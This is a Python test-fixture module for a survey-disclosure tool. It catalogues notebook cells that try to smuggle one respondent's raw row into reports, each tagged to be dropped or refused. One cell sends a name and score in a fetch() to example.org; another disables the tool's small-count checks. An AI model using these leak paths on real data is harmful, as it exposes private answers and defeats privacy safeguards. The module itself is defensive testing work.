"""Ways to get a person's answer out of a notebook: each a cell, with a person of its own who must not be found.

The cells stand in one notebook. Of a way that ends the run, only the organisation of that name runs the cell. What a
cell has at hand: `leak`, the person's row of the raw file; `raw`, all rows; `study`, `section` and `ev`.
"""
# ruff: noqa: E501 - cells of a notebook, on one line where a cell would be

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent, indent
from typing import Literal


@dataclass(frozen=True)
class Way:
    """One way to leak.

    Attributes
    ----------
    name : str
        What is tried.
    ends : str
        ``"dropped"``: the report is made without it; ``"refused"``: no report is made, and the message does not tell.
    cell : str
        The code.
    """

    name: str
    ends: Literal["dropped", "refused"]
    cell: str

    @property
    def organisation(self) -> str:
        """Name the organisation that takes this way."""
        return "leaky" if self.ends == "dropped" else f"leaky-{self.name}"


SET_UP = """
import pandas as pd
import evaluatie as ev

ev.check_parameters(globals())
study = ev.load_study(organisation)
section = ev.response(study)
raw = pd.read_csv(f"../data/raw/{organisation}/people.csv", dtype=str)
"""


def _ways() -> dict[str, tuple[Literal["dropped", "refused"], str]]:
    dropped: dict[str, str] = {
        "print": "print(leak.to_dict())",
        "warning": "import warnings; warnings.warn(str(leak.to_dict()))",
        "logging": "import logging; logging.getLogger('own').error('%s', leak.to_dict())",
        "subprocess": "import subprocess, sys; subprocess.run([sys.executable, '-c', f'print({leak.to_dict()!r})'])",
        "descriptor": "import os; os.write(1, str(leak.to_dict()).encode()); os.write(2, str(leak.to_dict()).encode())",
        "display": "from IPython.display import display; display(leak.to_frame())",
        "head": "from IPython.display import HTML, display; display(HTML(raw[raw.code == leak.code].head().to_html()))",
        "display-update": """
            from IPython.display import display
            handle = display("nothing", display_id=leak["naam"])
            handle.update(leak.to_dict())
            """,
        "clear-output": """
            from IPython.display import clear_output
            print(leak.to_dict())
            clear_output(wait=True)
            """,
        "type-name": """
            from IPython.display import publish_display_data
            publish_display_data({f"text/{leak['naam'].lower()}": leak["code"]}, metadata={"note": leak["opmerking"]})
            """,
        "points": """
            from IPython.display import publish_display_data
            points = {"x": [leak["wellbeing"]], "y": [1], "text": [leak["naam"]], "hovertemplate": leak["opmerking"]}
            publish_display_data({"application/vnd.plotly.v1+json": {"data": [points], "layout": {}}})
            """,
        "tooltips": """
            from IPython.display import publish_display_data
            data = {"values": [leak.to_dict()]}
            spec = {"mark": "point", "data": data, "encoding": {"tooltip": {"field": "naam"}}}
            publish_display_data({"application/vnd.vegalite.v5+json": spec})
            """,
        "image-metadata": """
            import io
            from IPython.display import Image, display
            from PIL import Image as Picture
            from PIL.PngImagePlugin import PngInfo
            told, file = PngInfo(), io.BytesIO()
            told.add_text("Title", str(leak.to_dict()), zip=True)
            Picture.new("L", (2, 2)).save(file, "png", pnginfo=told)
            display(Image(file.getvalue()))
            """,
        "svg-title": """
            from IPython.display import SVG, display
            text = f"<title>{leak['naam']}</title><desc>{leak['wellbeing']}</desc>"
            display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{text}<!-- {leak['opmerking']} --></svg>"))
            """,
        "comm": """
            from comm import create_comm
            state = {"_model_module": "@jupyter-widgets/controls", "_model_name": "HTMLModel", **leak.to_dict()}
            comm = create_comm(target_name="jupyter.widget", data={"state": state}, metadata={"version": "2.1.0"})
            comm.send(leak.to_dict())
            """,
        "next-cell": """
            shell = get_ipython()
            shell.set_next_input(str(leak.to_dict()))
            shell.execution_count = int(leak["code"][2:])
            shell.display_pub.publish({"text/plain": str(leak.to_dict())}, transient={"display_id": leak["naam"]})
            """,
        "javascript": """
            from IPython.display import Javascript, display
            display(Javascript(f"fetch('https://example.org/?{leak['naam']}={leak['wellbeing']}')"))
            """,
        "few-people": """
            few = pd.Series([float(leak["wellbeing"])] * 3)
            analysis = Analysis(ev.effects.mean(few + [0, 1e-12, 0]), "mean_t", ("t0",), (Cell(("t0",), "wellbeing"),), "wellbeing")
            row = Row((Word("everyone"),), (Ref("response.few.mean", "points"),))
            more = Table("table-few", Finding("table.synthesis_about"), (Finding("column.group"), Finding("column.mean")), (row,))
            section = replace(section, results={**section.results, "few": analysis}, displays=(*section.displays, more))
            """,
        "notes": """
            from evaluatie.effects.describing import Mean
            told = Mean(str(leak.to_dict()), (leak["naam"],), 3.0, None, None, None, None, 0.95, 60, None)
            object.__setattr__(told, "rows", raw.to_dict())
            analysis = Analysis(told, "mean_t", ("t0",), (Cell(("t0",), "wellbeing"),), "wellbeing")
            section = replace(section, results={**section.results, "told": analysis})
            """,
        "file-among-reports": """
            import json, pathlib
            for place in ("../reports/leak.csv", f"../reports/{organisation}/leak.csv", f"../reports/{organisation}-2/x.html"):
                path = pathlib.Path(place)
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(str(leak.to_dict()))
            """,
        "file-name": """
            import pathlib
            pathlib.Path(f"../reports/{leak['naam']}-{leak['wellbeing']}").mkdir(parents=True, exist_ok=True)
            pathlib.Path(f"../reports/{leak['naam']}-{leak['wellbeing']}/report.html").write_text("<p>")
            """,
        "kept-section": """
            import json, pathlib
            path = pathlib.Path(f"../data/sections/{organisation}/99_more.json")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(json.dumps(leak.to_dict()))
            """,
    }
    refused: dict[str, str] = {
        "exception": "raise KeyError(str(leak.to_dict()))",
        "error-in-repr": """
            from IPython.display import display
            class Odd:
                def _repr_html_(self):
                    raise RuntimeError(str(leak.to_dict()))
            display(Odd())
            """,
        "exception-name": "raise type(leak['naam'], (Exception,), {})",
        "exception-of-ours": """
            from evaluatie.study import Problem, StudyError
            raise StudyError([Problem(leak["naam"], 730011, leak["code"], leak["opmerking"], leak["wellbeing"])])
            """,
        "broken-comm": """
            from comm import create_comm
            create_comm(target_name="jupyter.widget", data={"state": leak.to_dict()}, metadata={"version": "2.1.0"})
            """,
        "exit": "raise SystemExit(str(leak.to_dict()))",
        "forged-bundle": """
            forged = json.loads(json.dumps(ev.release(section).bundle))
            forged["organisation"]["name"] = leak["naam"]
            number = next(iter(forged["numbers"].values()))
            number.update(estimate=float(leak["wellbeing"]), n=100)
            publish_display_data({MIME: forged})
            raise SystemExit
            """,
        "forged-number": """
            forged = json.loads(json.dumps(ev.release(section).bundle))
            next(iter(forged["numbers"].values())).update(estimate=float(leak["wellbeing"]), n=100)
            publish_display_data({MIME: forged})
            raise SystemExit
            """,
        "changed-after-release": """
            released = ev.release(section)
            next(iter(released.bundle["numbers"].values())).update(estimate=float(leak["wellbeing"]))
            display(released)
            raise SystemExit
            """,
        "release-replaced": """
            import evaluatie.disclosure.channel as channel
            from evaluatie.disclosure.origins import _FromStudy
            channel._too_few = lambda *_: None
            _FromStudy.reason = lambda *_: None
            few = ev.effects.mean(pd.Series([float(leak["wellbeing"])] * 3) + [0, 1e-12, 0])
            analysis = Analysis(few, "mean_t", ("t0",), (Cell(("t0",), "wellbeing"),), "wellbeing")
            section = replace(section, results={**section.results, "few": analysis})
            """,
        "text-in-a-sentence": """
            section = replace(section, findings=(*section.findings, Finding("response.rate", {"wave": Setting(leak["naam"])})))
            """,
        "loose-number": """
            value = Setting(float(leak["wellbeing"]))
            section = replace(section, findings=(*section.findings, Finding("response.rate", {"wave": value})))
            """,
        "caption": """
            table = Table("table-own", Finding(leak["naam"]), (Finding(leak["opmerking"]),), ())
            section = replace(section, displays=(*section.displays, table))
            """,
        "label": """
            row = Row((Label("level", leak["naam"]),), ())
            table = Table("table-own", Finding("table.synthesis_about"), (Finding("column.group"), Finding("column.mean")), (row,))
            section = replace(section, displays=(*section.displays, table))
            """,
        "own-result": """
            class Extremes(ev.Result):
                def estimates(self):
                    return (ev.result.Estimate("min", float(leak["wellbeing"])), ev.result.Estimate("max", float(leak["wellbeing"])))
            analysis = Analysis(Extremes("own", ()), "mean_t", ("t0",), (Cell(("t0",), "wellbeing"),), "wellbeing")
            section = replace(section, results={**section.results, "own": analysis})
            """,
        "group-id": """
            told = next(iter(section.results.values()))
            analysis = replace(told, characteristic=leak["naam"], level=leak["opmerking"])
            section = replace(section, results={**section.results, leak["code"]: analysis})
            """,
        "plan-text": """
            for part, name in ((study.config.organisation, "name"), (study.config.organisation, "sector")):
                object.__setattr__(part, name, leak["naam"])
            study.config.plan.__dict__["deviations"] = (leak["opmerking"],)
            """,
    }  # fmt: skip
    return {name: ("dropped", cell) for name, cell in dropped.items()} | {
        name: ("refused", cell) for name, cell in refused.items()
    }


WAYS = tuple(Way(name, ends, dedent(cell).strip()) for name, (ends, cell) in _ways().items())

HELPERS = """
import json
from dataclasses import replace
from IPython.display import display, publish_display_data
from evaluatie.disclosure import MIME
from evaluatie.evaluation.section import Analysis, Cell, Finding, Label, Ref, Row, Setting, Table, Word
"""


def cells() -> list[str]:
    """Give the notebook's code, a cell for each way."""
    return [SET_UP.strip(), HELPERS.strip(), *(_guarded(at, way) for at, way in enumerate(WAYS)), "ev.release(section)"]


def _guarded(at: int, way: Way) -> str:
    return f'# {way.name}\nleak = raw.iloc[{at}]\nif organisation == "{way.organisation}":\n{indent(way.cell, "    ")}'
